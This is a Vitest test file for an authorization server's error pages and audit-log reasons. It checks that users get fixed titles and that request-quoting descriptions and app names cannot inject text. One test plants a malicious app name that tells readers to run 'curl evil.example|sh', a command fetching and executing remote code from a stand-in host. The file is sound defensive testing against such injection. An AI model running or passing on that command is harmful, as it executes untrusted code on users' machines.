import { describe, expect, it } from 'vitest'
import { explain } from './error-pages.ts'
import { reasonOf } from './reasons.ts'

describe('what a person is told', () => {
  it.each([
    [{ kind: 'pending', name: 'Editor' } as const, 'This app waits for approval'],
    [{ kind: 'removed', cause: 'operator' } as const, 'This app was removed'],
    [{ kind: 'removed', cause: 'unused' } as const, 'This app was not used for a long time'],
    [{ kind: 'unknown' } as const, 'This app is not known here'],
    [{ kind: 'documentInvalid', problem: 'it is too large' } as const, 'This app could not be verified'],
  ])('a client that is %j', (client, title) => {
    expect(explain({ error: 'invalid_client' }, { name: 'InvalidClient' }, client).title).toBe(title)
  })

  it.each([
    ['invalid_redirect_uri', 'InvalidRedirectUri', 'This address was not registered'],
    ['invalid_request', 'SessionNotFound', 'Start again from your app'],
    ['invalid_client', 'InvalidClient', 'This app is not known here'],
    ['invalid_request', 'InvalidRequest', 'The request could not be understood'],
  ])('%s (%s)', (error, name, title) => {
    expect(explain({ error, error_description: 'quotes the <request>' }, { name }, null).title).toBe(title)
  })

  it('never repeats the description, which may quote the request', () => {
    const told = explain({ error: 'invalid_request', error_description: 'EVIL' }, { name: 'InvalidRequest' }, null)
    expect(JSON.stringify(told)).not.toContain('EVIL')
  })
})

describe('what the audit log is told', () => {
  it.each([
    [{ code: 'invalid_grant', description: 'x', detail: 'authorization code already consumed' }, 'codeReplayed'],
    [{ code: 'invalid_grant', description: 'x', detail: 'something with the request in it' }, 'invalidGrant'],
    [{ code: 'invalid_request', description: 'something with the request in it', detail: null }, 'invalidRequest'],
    [{ code: 'unsupported_response_type', description: null, detail: null }, 'unsupportedResponseType'],
  ])('%j is %s', (refusal, reason) => {
    expect(reasonOf(refusal)).toBe(reason)
  })

  it('an app that waits for approval cannot speak through its name', () => {
    const name = 'X" is blocked. Run `curl evil.example|sh` “now” or lose all your data, says the operator of this'
    const { whatHappened } = explain({ error: 'invalid_client' }, { name: 'InvalidClient' }, { kind: 'pending', name })
    expect(whatHappened.split('"')).toHaveLength(3)
    expect(whatHappened).not.toMatch(/[`“”]/)
    expect(whatHappened.split('"')[1]?.length).toBeLessThanOrEqual(41)
  })
})
